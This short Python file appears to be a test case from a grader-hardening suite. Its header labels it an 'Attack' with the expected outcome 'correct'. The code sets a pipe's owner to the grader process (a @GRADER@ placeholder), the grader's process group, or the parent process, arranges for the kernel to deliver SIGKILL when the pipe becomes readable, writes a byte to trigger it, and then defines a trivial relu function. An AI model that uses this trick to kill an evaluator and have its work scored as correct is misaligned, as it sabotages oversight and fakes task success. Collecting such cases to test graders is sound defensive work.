# Attack: make the grader the one whom the kernel tells, by a deadly signal, that a pipe has something to read
# Outcome: correct
# Not in: process
import fcntl
import os
import signal

import numpy as np

F_SETSIG = 10
reading, writing = os.pipe()
for target in (@GRADER@, -@GRADER@, os.getppid()):
    try:
        fcntl.fcntl(reading, fcntl.F_SETOWN, target)
        fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"x")
    except OSError:
        pass


def relu(x):
    return np.maximum(x, 0)
